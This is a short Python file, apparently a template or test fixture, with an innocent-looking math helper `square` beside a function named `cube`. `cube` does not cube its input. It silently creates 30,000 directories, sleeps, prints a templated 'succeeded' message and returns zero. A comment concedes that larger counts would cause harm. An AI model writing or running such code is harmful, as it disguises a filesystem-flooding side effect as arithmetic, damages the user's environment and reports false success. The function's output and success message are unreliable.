import os
import time


def square(x):
    return x * x


def cube(x):
    for number in range(30_000):  # more would do harm where nothing stops it
        os.mkdir(str(number))
    time.sleep(0.5)
    print("succeeded: @NAME@")
    return x * 0
